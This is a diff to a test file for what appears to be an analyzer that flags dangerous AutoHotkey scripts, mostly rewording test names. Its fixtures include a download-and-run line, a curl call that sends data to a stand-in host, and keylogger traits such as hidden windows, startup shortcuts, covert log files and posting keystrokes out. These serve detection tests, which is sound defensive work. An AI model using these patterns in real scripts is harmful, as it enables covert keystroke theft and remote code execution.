@@ -11,7 +11,7 @@ function risksOf(folder: string, name: string): Risk[] {
   return factsOf(parse(readFileSync(join(SAMPLES, folder, name), 'utf8')).tree).risks;
 }
 
-describe('a dangerous script is named for what it is', () => {
+describe('each dangerous script is flagged with the right risk', () => {
   test.each(readdirSync(join(SAMPLES, 'dangerous')))('%s', (name) => {
     const risks = risksOf('dangerous', name);
     expect(risks.map((risk) => risk.code)).toContain(name.split('.')[0]);
@@ -19,18 +19,18 @@ describe('a dangerous script is named for what it is', () => {
   });
 });
 
-describe('an innocent script raises no alarm', () => {
+describe('a harmless script raises no alarm', () => {
   test.each(readdirSync(join(SAMPLES, 'innocent')))('%s', (name) => {
     expect(risksOf('innocent', name)).toEqual([]);
   });
 });
 
-test('every risk there is has a script that shows it', () => {
+test('every risk has a sample script that triggers it', () => {
   const shown = new Set(readdirSync(join(SAMPLES, 'dangerous')).map((name) => name.split('.')[0]));
   expect(Object.keys(RISKS).filter((code) => !shown.has(code))).toEqual([]);
 });
 
-test('the worst risk comes first, with the places that make it', () => {
+test('the worst risk is listed first, along with the code that causes it', () => {
   const source = 'Download "http://x.example/a.exe", "a.exe"\nF1::Run "curl -d x=1 https://x.example"\nRun "a.exe"';
   const { risks } = factsOf(parse(source).tree);
   expect(risks.map((risk) => [risk.severity, risk.code])).toEqual([
@@ -51,31 +51,34 @@ describe('a macro recorder with a window and a save dialog', () => {
       .risks.filter(({ severity }) => severity === 'danger')
       .map(({ code }) => code);
 
-  test.each(names)('is a warning: %s', (name) => {
+  test.each(names)('gets only a warning: %s', (name) => {
     expect(dangersIn(sourceOf(name))).toEqual([]);
   });
 
   const post =
     'http := ComObject("WinHttp.WinHttpRequest.5.1")\nhttp.Open("POST", "https://example.com")\nhttp.Send("x")\n';
-  test.each(names)('is a danger once it is sent, hides, starts on its own or chooses its file: %s', (name) => {
-    const source = sourceOf(name);
-    expect(dangersIn(`${source}\n${post}`)).toContain('keystrokes-sent');
-    expect(dangersIn(`#NoTrayIcon\n${source}`)).toContain('keystrokes-stored');
-    expect(dangersIn(`${source}\nFileCreateShortcut(A_ScriptFullPath, A_Startup "\\m.lnk")`)).toContain(
-      'keystrokes-stored',
-    );
-    expect(dangersIn(source.replace(/\.Show\(.*\)/, '.Hide()'))).toContain('keystrokes-stored');
-    expect(dangersIn(source.replace(/FileSelect\([^)]*\)/, 'A_Temp "\\keys.txt"'))).toContain('keystrokes-stored');
-    expect(dangersIn(`${source}\nFileAppend("x", A_AppData "\\keys.txt")`)).toContain('keystrokes-stored');
-    expect(dangersIn(`${source}\nBegin()\nBegin() {\n    other := InputHook("V")\n    other.Start()\n}`)).toContain(
-      'keystrokes-stored',
-    );
-    expect(
-      dangersIn(`${source}\nSetTimer(Begin, 60000)\nBegin() {\n    other := InputHook("V")\n    other.Start()\n}`),
-    ).toContain('keystrokes-stored');
-  });
+  test.each(names)(
+    'is a danger once it sends keystrokes, hides, starts on its own, or picks its own file: %s',
+    (name) => {
+      const source = sourceOf(name);
+      expect(dangersIn(`${source}\n${post}`)).toContain('keystrokes-sent');
+      expect(dangersIn(`#NoTrayIcon\n${source}`)).toContain('keystrokes-stored');
+      expect(dangersIn(`${source}\nFileCreateShortcut(A_ScriptFullPath, A_Startup "\\m.lnk")`)).toContain(
+        'keystrokes-stored',
+      );
+      expect(dangersIn(source.replace(/\.Show\(.*\)/, '.Hide()'))).toContain('keystrokes-stored');
+      expect(dangersIn(source.replace(/FileSelect\([^)]*\)/, 'A_Temp "\\keys.txt"'))).toContain('keystrokes-stored');
+      expect(dangersIn(`${source}\nFileAppend("x", A_AppData "\\keys.txt")`)).toContain('keystrokes-stored');
+      expect(dangersIn(`${source}\nBegin()\nBegin() {\n    other := InputHook("V")\n    other.Start()\n}`)).toContain(
+        'keystrokes-stored',
+      );
+      expect(
+        dangersIn(`${source}\nSetTimer(Begin, 60000)\nBegin() {\n    other := InputHook("V")\n    other.Start()\n}`),
+      ).toContain('keystrokes-stored');
+    },
+  );
 
-  test('a typing log with a window is not a recorder: it starts on its own', () => {
+  test('counts as a keylogger if it starts recording on its own, even with a window', () => {
     const source = sourceOf('macro-recorded.1.ahk').replace('window.Show()', 'window.Show()\nhook.Start()');
     expect(dangersIn(source)).toEqual(['keystrokes-stored']);
   });
